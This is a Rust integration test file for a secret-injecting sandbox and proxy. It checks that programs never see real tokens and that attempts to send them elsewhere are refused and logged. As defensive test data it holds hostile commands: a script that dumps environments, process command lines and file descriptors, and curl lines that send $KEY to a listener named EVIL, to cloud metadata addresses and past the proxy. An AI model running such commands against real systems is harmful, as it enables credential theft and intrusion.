//! Programs that send: the value arrives where the template says, nothing that the program can look at holds it,
//! and nothing goes anywhere else.

use std::collections::BTreeSet;
use std::fs;
use std::net::{TcpListener, UdpSocket};
use std::path::Path;

use base64ct::{Base64, Encoding as _};
use serde_json::{Value, json};

use super::outside::Outside;
use super::stand::{VALUE, stdout};
use crate::values;

/// Everything that a program can look at, into files that nobody redacts.
const LOOK: &str = "env > env; cat /proc/self/environ /proc/[0-9]*/environ > environs 2>/dev/null; \
    cat /proc/[0-9]*/cmdline > lines; ls -l /proc/[0-9]*/fd > fds 2>/dev/null; cat /dev/fd/3 > held; \
    cat \"$SSL_CERT_FILE\" > bundle; find / -xdev -newer /proc/1/stat > fresh 2>/dev/null; cp -r /tmp tmp";

/// The same request as Python's own library makes it.
const PYTHON: &str = "import os, urllib.request as r; q = r.Request('https://API/echo', \
    headers={'Authorization': 'Bearer ' + os.environ['KEY']}); open('python', 'wb').write(r.urlopen(q).read())";

/// What the origin says back, in each of its ways.
const SAID: [&str; 7] = [
    "echo",
    "echo-chunked",
    "echo-big",
    "echo-header",
    "echo-error",
    "echo-trailers",
    "echo-last",
];

fn files_below(folder: &Path) -> Vec<(String, String)> {
    let mut all = Vec::new();
    for entry in fs::read_dir(folder).unwrap().flatten() {
        let kind = entry.file_type().unwrap();
        if kind.is_dir() {
            all.extend(files_below(&entry.path()));
        } else if kind.is_file() {
            let bytes = fs::read(entry.path()).unwrap();
            let name = entry.path().display().to_string();
            all.push((name, String::from_utf8_lossy(&bytes).into_owned()));
        }
    }
    all
}

#[test]
fn x02_x03_x04_a_program_sends_what_it_never_holds() {
    let outside = Outside::new("");
    let said: Vec<String> = SAID
        .iter()
        .map(|way| format!("{} -D {way}.head > {way}", outside.curl(&format!("/{way}"))))
        .collect();
    let script = format!(
        "{}; python3 -c \"{}\" || exit 9; {LOOK}; cat echo",
        said.join("; "),
        PYTHON.replace("API", &outside.api())
    );
    let mut template = outside.sender("sender", &script);
    template["program"]["secrets"] = json!([{ "name": "TOKEN", "descriptor": 3 }]);
    let _daemon = outside.serve_with(&[template]);
    let run = outside.stand.run("sender", &json!({}));
    assert_eq!(run["exit"]["number"], 0, "{run}");
    // It arrived, from both.
    let got = outside.origin.got();
    let whole = format!("Bearer {}", values::VALUE);
    let arrived = got
        .iter()
        .filter(|got| got.header("authorization") == whole);
    assert_eq!(arrived.count(), SAID.len() + 1, "{got:?}");
    // What the program can look at has the placeholder, and so has what the origin said.
    let files = files_below(outside.stand.open());
    for (name, text) in &files {
        values::assert_no_value(name, text);
    }
    assert_eq!(
        outside.wrote("held"),
        VALUE,
        "what it is given it does hold"
    );
    assert!(outside.wrote("env").contains("KEY=__skep_key__\n"));
    for name in ["echo", "echo-chunked", "echo-big", "echo-error", "python"] {
        let text = outside.wrote(name);
        assert!(text.contains("__skep_key__"), "{name}: {text}");
    }
    assert!(outside.wrote("echo-header.head").contains("__skep_key__"));
    // Nothing was there to be redacted but what it held.
    assert!(stdout(&run).contains("__skep_key__"), "{run}");
    assert_eq!(run["output"]["redacted"], json!([]), "{run}");
    assert_eq!(
        run["sandbox"]["missing"].as_array().unwrap().len(),
        missing(),
        "{run}"
    );
    // Each use is in the record, by the mark of the secret.
    let id = run["id"].as_str().unwrap();
    let uses = outside.recorded(id, "secret.use", |found| found.len() == SAID.len() + 1);
    for entry in &uses {
        let reason = entry["reason"].as_str().unwrap();
        assert!(reason.contains("template sender; secret "), "{entry}");
        assert!(
            reason.ends_with(&format!("to {}", outside.api())),
            "{entry}"
        );
        assert_eq!(entry["outcome"], "allowed");
    }
    values::assert_no_value("the record", &format!("{uses:?}"));
}

/// Root's processes are bounded by nobody.
fn missing() -> usize {
    // The daemon of these tests is root of its own namespace, whoever runs them.
    1
}

/// What a program tries that may send to one host, a line each: `API` and `PORT` are the origin's, `EVIL` is the
/// port of somebody who listens beside it.
const TRIES: &[&str] = &[
    // Other hosts, other ports, through the proxy.
    "curl -H \"Authorization: $KEY\" https://other.test:PORT/echo",
    "curl -H \"Authorization: $KEY\" https://api.test:EVIL/echo",
    "curl https://api.test/echo",
    "curl -H \"Authorization: $KEY\" --connect-to api.test:PORT:other.test:PORT https://api.test:PORT/echo",
    "curl -L --location-trusted -H \"Authorization: $KEY\" https://api.test:PORT/redirect-away",
    // Addresses: as they are, and behind names that the template does list.
    "curl http://169.254.169.254/latest/meta-data/",
    "curl https://169.254.169.254/",
    "curl --noproxy '' https://127.0.0.1:EVIL/",
    "curl --noproxy '' http://[::1]:EVIL/",
    "curl https://metadata.test/",
    "curl https://private.test/",
    "curl https://inner.test:8443/",
    // In clear, and out of place.
    "curl -H \"Authorization: $KEY\" http://api.test:PORT/echo",
    "curl https://api.test:PORT/echo?key=$KEY",
    "curl -H \"Cookie: $KEY\" https://api.test:PORT/echo",
    "curl -d \"$KEY\" https://api.test:PORT/echo",
    // Past the proxy.
    "curl --noproxy '*' -k https://api.test:PORT/echo",
    "curl --noproxy '*' http://127.0.0.1:EVIL/",
    "curl --noproxy '*' http://169.254.169.254/latest/meta-data/",
    "curl -x socks5://127.0.0.1:EVIL https://api.test:PORT/echo",
    "curl -x http://127.0.0.1:EVIL https://api.test:PORT/echo",
    "curl telnet://127.0.0.1:EVIL",
    // Without the password, and with one that was guessed.
    "curl -x http://127.0.0.1:3128 https://api.test:PORT/echo",
    "curl -x http://skep:0123456789abcdef0123456789abcdef@127.0.0.1:3128 https://api.test:PORT/echo",
];

/// The same by hand: TCP, UDP, names, and sockets that lead to the daemon. Says what was let through.
const RAW: &str = "import socket as s
for family, to in [(s.AF_INET, ('127.0.0.1', EVIL)), (s.AF_INET, ('169.254.169.254', 80)), (s.AF_INET, ('1.1.1.1', 53)),
                   (s.AF_INET6, ('::1', EVIL)), (s.AF_UNIX, 'HOME/skepd.sock'), (s.AF_UNIX, 'HOME/runs/0')]:
    try:
        c = s.socket(family, s.SOCK_STREAM); c.settimeout(5); c.connect(to); print('connected', to)
    except OSError: pass
for to in [('127.0.0.1', UDP), ('1.1.1.1', 53)]:
    try:
        s.socket(s.AF_INET, s.SOCK_DGRAM).sendto(b'out', to)
    except OSError: pass
for name in ['skep.example', 'example.com']:
    try: print('resolved', s.getaddrinfo(name, 443))
    except OSError: pass
try:
    l = s.socket(); l.bind(('127.0.0.1', 4444)); l.listen(); print('serves')
except OSError: pass
print('over')";

/// Somebody who listens beside the origin, and must hear of nothing.
struct Beside {
    tcp: TcpListener,
    /// At a private address, and at a port that whoever calls outside may call.
    inner: TcpListener,
    /// Where this machine has such addresses.
    _six: Option<TcpListener>,
    udp: UdpSocket,
}

impl Beside {
    fn new() -> Self {
        let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
        let inner = TcpListener::bind("127.77.3.9:8443").unwrap();
        let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
        tcp.set_nonblocking(true).unwrap();
        inner.set_nonblocking(true).unwrap();
        udp.set_nonblocking(true).unwrap();
        Self {
            _six: TcpListener::bind(("::1", tcp.local_addr().unwrap().port())).ok(),
            tcp,
            inner,
            udp,
        }
    }

    fn port(&self) -> u16 {
        self.tcp.local_addr().unwrap().port()
    }

    fn named(&self, text: &str, outside: &Outside) -> String {
        text.replace("PORT", &outside.origin.address.port().to_string())
            .replace("EVIL", &self.port().to_string())
            .replace("UDP", &self.udp.local_addr().unwrap().port().to_string())
            .replace("HOME", &outside.stand.home.path().display().to_string())
    }

    fn has_heard(&self) -> bool {
        let asked = [&self.tcp, &self.inner].map(TcpListener::accept);
        asked.iter().any(Result::is_ok) || self.udp.recv(&mut [0; 8]).is_ok()
    }
}

/// All of that as one script.
fn tries(outside: &Outside, beside: &Beside) -> String {
    let mut script = String::new();
    for (nth, attempt) in TRIES.iter().enumerate() {
        let attempt = beside.named(attempt, outside);
        let attempt = attempt.replacen("curl", "curl -sS -m 15", 1);
        let code = "-w '\\n%{http_code}' -o";
        script.push_str(&format!(
            "{attempt} {code} try{nth} >> codes 2>&1; echo >> codes; "
        ));
    }
    let raw = beside.named(RAW, outside);
    fs::write(outside.stand.path("raw.py"), raw).unwrap();
    script + "python3 raw.py"
}

#[test]
fn x03_a_program_sends_nowhere_but_where_its_template_says() {
    let (outside, beside) = (Outside::new(""), Beside::new());
    let mut template = outside.sender("tries", &tries(&outside, &beside));
    template["program"]["hosts"] = json!(["metadata.test", "private.test", "inner.test:8443"]);
    let other = "curl -sS -o /dev/null -w %{http_connect} https://other.test:PORT/echo";
    let alone = outside.sender("alone", &beside.named(other, &outside));
    let _daemon = outside.serve_with(&[template, alone]);
    let run = outside.stand.run("tries", &json!({}));
    assert_eq!(stdout(&run), "over\n", "{run}");
    let codes = outside.wrote("codes");
    assert!(!codes.contains("\n200"), "{codes}");
    assert!(!beside.has_heard());
    assert_eq!(stdout(&outside.stand.run("alone", &json!({}))), "403");
    // What came to the origin is the first half of the redirect, and what holds no placeholder.
    let got = outside.origin.got();
    let lines: Vec<&str> = got.iter().map(|got| got.line.as_str()).collect();
    assert_eq!(lines, ["GET /redirect-away"]);
    for (name, text) in files_below(outside.stand.open()) {
        values::assert_no_value(&name, &text);
    }
    // What the proxy refused is in the record, for each of its reasons.
    let wanted: BTreeSet<&str> = [
        "host",
        "address",
        "unauthenticated",
        "placeholder_in_url",
        "placeholder_in_header",
        "placeholder_in_body",
        "in_clear",
    ]
    .into();
    let reasons = |found: &[Value]| -> BTreeSet<String> {
        let reasons = found
            .iter()
            .map(|item| item["reason"].as_str().unwrap().to_owned());
        reasons.collect()
    };
    let id = run["id"].as_str().unwrap();
    let found = outside.recorded(id, "wire.refuse", |found| {
        let reasons = reasons(found);
        wanted.iter().all(|reason| reasons.contains(*reason))
    });
    assert!(
        found.iter().all(|item| item["outcome"] == "denied"),
        "{found:?}"
    );
}

#[test]
fn x03_a_template_does_not_give_what_it_sends() {
    let outside = Outside::new("");
    let _daemon = outside.serve_with(&[]);
    let mut both = outside.sender("both", "true");
    both["program"]["rules"][0]["secret"] = json!("token");
    let (status, refused) = outside.stand.post("/api/v1/templates", &both);
    assert_eq!(status, 400, "{refused}");
    // One that is not there at all runs nothing.
    let mut absent = outside.sender("absent", "true");
    absent["program"]["rules"][0]["secret"] = json!("nothing");
    outside.stand.approve(&absent);
    let run = outside.stand.run("absent", &json!({}));
    assert_eq!(run["state"], "failed", "{run}");
    assert!(run["reason"].as_str().unwrap().contains("nothing"), "{run}");
}

#[test]
fn x02_nobody_learns_a_secret_from_what_is_hidden_of_their_own_words() {
    let outside = Outside::new("");
    let mut echo = outside.sender("echo", "");
    echo["program"]["arguments"] = json!([
        "-c",
        "printf '%s ' $1; printf %s \"$1\" | base64 -w 0",
        "sh",
        "{branch}"
    ]);
    echo["program"]["parameters"] = json!([{ "name": "branch", "pattern": ".*" }]);
    echo["program"]["secrets"] = json!([{ "name": "TOKEN", "descriptor": 3 }]);
    let _daemon = outside.serve_with(&[echo]);
    // One that it only sends, and one that it holds.
    for value in [values::VALUE, VALUE] {
        for length in [9, 12, value.len()] {
            let right = &value[..length];
            let wrong = format!("{}~", &right[..length - 1]);
            let folded = right.to_uppercase();
            for guess in [right, &wrong, &folded] {
                let run = outside.stand.run("echo", &json!({ "branch": guess }));
                let in_base64 = Base64::encode_string(guess.as_bytes());
                assert_eq!(stdout(&run), format!("{guess} {in_base64}"), "{run}");
                assert_eq!(run["output"]["redacted"], json!([]), "{run}");
                assert_eq!(run["exit"]["number"], 0, "{run}");
            }
        }
    }
}
